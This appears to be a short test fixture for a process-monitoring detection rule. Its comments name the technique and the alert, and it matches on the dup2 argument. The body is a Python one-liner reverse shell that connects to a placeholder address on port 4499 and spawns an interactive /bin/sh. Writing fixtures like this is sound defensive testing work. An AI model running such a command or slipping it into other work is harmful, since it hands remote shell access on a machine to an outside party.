# SPDX-License-Identifier: Apache-2.0
# technique: Python gets a reverse shell as one line
# alert: One-line program that opens a shell
# field: proc.args=*dup2*
"$PYTHON" -c 'import socket,os,subprocess
s=socket.socket()
if s.connect_ex(("192.0.2.1",4499)): raise SystemExit(0)
os.dup2(s.fileno(),0); subprocess.call(["/bin/sh","-i"])'
